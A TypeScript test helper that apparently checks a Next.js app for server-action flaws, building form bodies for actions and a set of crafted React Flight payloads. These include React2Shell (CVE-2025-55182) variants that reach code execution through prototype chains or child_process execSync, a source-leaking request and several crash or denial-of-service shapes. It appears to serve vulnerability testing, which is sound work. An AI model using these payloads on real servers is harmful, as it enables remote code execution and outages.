import { readFileSync } from "node:fs";

/** A server action of the build: its id, and an address whose page knows it. */
type BuiltAction = { id: string; name: string };

/** All server actions that the build has. */
export function builtActions(): BuiltAction[] {
  const { node } = JSON.parse(readFileSync(".next/server/server-reference-manifest.json", "utf8"));
  return Object.entries<{ exportedName: string }>(node).map(([id, { exportedName }]) => ({
    id,
    name: exportedName,
  }));
}

/** The body of a call of a form's action, as React encodes it: the former state, and the form's fields. */
export function formCall(fields: Record<string, string>): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(`_1_${name}`, value);
  form.append("0", '[{"status":"idle"},"$K1"]');
  return form;
}

/** The same call by a form without scripts: the action's id is a field of it. */
export function plainForm(actionId: string, fields: Record<string, string>): FormData {
  const form = new FormData();
  form.append(`$ACTION_ID_${actionId}`, "");
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  return form;
}

/**
 * Bodies that have run code, stopped the process or told its source while Next.js decoded them: React2Shell
 * (CVE-2025-55182) and what came after it. `proof`: a file that code of ours would make on the server.
 */
export function flightShapes(actionId: string, proof: string): Record<string, FormData | string> {
  const code = `process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(proof)}, 'x');`;
  const thenable = (field: string) => ({
    // biome-ignore lint/suspicious/noThenProperty: that is the attack
    then: "$1:__proto__:then",
    status: "resolved_model",
    reason: -1,
    value: '{"then":"$B1337"}',
    _response: { _prefix: code, _chunks: "$Q2", _formData: { get: `$1:${field}` } },
  });
  const parts = (fields: Record<string, unknown>) => {
    const form = new FormData();
    for (const [name, value] of Object.entries(fields))
      form.append(name, typeof value === "string" ? value : JSON.stringify(value));
    return form;
  };
  const shell = { "0": thenable("constructor:constructor"), "1": '"$@0"', "2": "[]" };
  return {
    "React2Shell by a prototype": parts(shell),
    "React2Shell by an own name": parts({ ...shell, "0": thenable("then:constructor") }),
    "React2Shell with a form's action": parts({
      ...shell,
      $ACTION_REF_3: "",
      "$ACTION_3:0": { id: actionId, bound: "$@0" },
    }),
    "a module's own functions as the action": parts({
      $ACTION_REF_0: "",
      "$ACTION_0:0": { id: "child_process#execSync", bound: [`touch ${proof}`] },
    }),
    "an action of another module": parts({
      "0": '["$F1"]',
      "1": { id: `${actionId}#constructor`, bound: "$@2" },
      "2": "[]",
    }),
    "the source of an action": parts({ "0": '["$F1"]', "1": { id: actionId, bound: null } }),
    "the scanner's question": parts({ "1": "{}", "0": '["$1:a:a"]' }),
    "a promise of itself": parts({ "0": '"$@0"' }),
    "a promise of itself as text": '"$@0"',
    "two that wait for each other": parts({ "0": '["$@1"]', "1": '{"then":"$@0"}' }),
    "a map of itself": parts({ "0": '["$Q1"]', "1": '[["$Q1","$Q1"]]' }),
    "very deep": parts({ "0": "[".repeat(50_000) + "]".repeat(50_000) }),
    "very long references": parts({ "0": `["$1${":a".repeat(20_000)}"]`, "1": "{}" }),
    "a very long number": parts({ "0": `["$n${"9".repeat(100_000)}"]` }),
    "very many forms": parts({
      "0": `[${Array.from({ length: 3_000 }, () => '"$K1"').join(",")}]`,
      _1_a: "x",
    }),
    "a prototype": parts({
      "0": '[{"__proto__":{"status":"done"},"constructor":{"prototype":{"a":1}}},"$K1"]',
    }),
  };
}
